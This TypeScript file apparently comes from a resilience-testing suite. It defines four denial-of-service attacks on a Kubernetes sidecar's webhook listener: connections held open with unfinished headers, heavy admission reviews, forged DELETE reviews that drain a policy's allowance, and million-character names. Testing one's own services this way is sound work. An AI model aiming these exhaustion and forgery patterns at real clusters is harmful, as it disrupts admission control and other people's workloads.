// Attacks on a sidecar's listener for its operator's webhooks (5445), which every pod of the cluster can reach: memory by headers and bodies, and
// invented reviews that use up what a policy allows.
import type { Attack } from "../attack.ts";
import { visit } from "../dial.ts";
import { heavyReview, post, prepareHeavyReviews, review } from "../requests.ts";
import { unfinishedHead } from "./connections.ts";

const PATH = "/validate?timeout=10s";
const FOOS = { group: "demo.ctrlmesh.io", version: "v1", resource: "foos" };
const HOLD_MS = 60_000;
const head = unfinishedHead(PATH, 120);

export const SIDECAR_REVIEWS: readonly Attack[] = [
  {
    name: "review-unfinished-heads",
    on: "sidecar",
    perSecond: 100,
    maxOpen: 2_000,
    visit: (site) => visit(site, site.targets.sidecar.reviews, { parts: [head], holdMs: HOLD_MS }),
  },
  {
    name: "review-heavy",
    on: "sidecar",
    perSecond: 1,
    maxOpen: 16,
    prepare: prepareHeavyReviews,
    visit(site) {
      const { reviews, namespace } = site.targets.sidecar;
      return visit(site, reviews, { parts: [post(PATH, heavyReview(site.number, namespace))], holdMs: 20_000 });
    },
  },
  {
    name: "review-invented-deletes",
    on: "sidecar",
    perSecond: 20,
    maxOpen: 50,
    visit(site) {
      const { reviews, namespace } = site.targets.sidecar;
      const body = review({ resource: FOOS, operation: "DELETE", namespace, name: `invented-${site.number}`, oldObject: {} });
      return visit(site, reviews, { parts: [post(PATH, body)], holdMs: 5_000 });
    },
  },
  {
    name: "review-endless-names",
    on: "sidecar",
    perSecond: 2,
    maxOpen: 10,
    visit(site) {
      const { reviews } = site.targets.sidecar;
      const body = review({ resource: FOOS, operation: "CREATE", namespace: "n".repeat(1_000_000), name: "m".repeat(1_000_000) });
      return visit(site, reviews, { parts: [post(PATH, body)], holdMs: 5_000 });
    },
  },
];
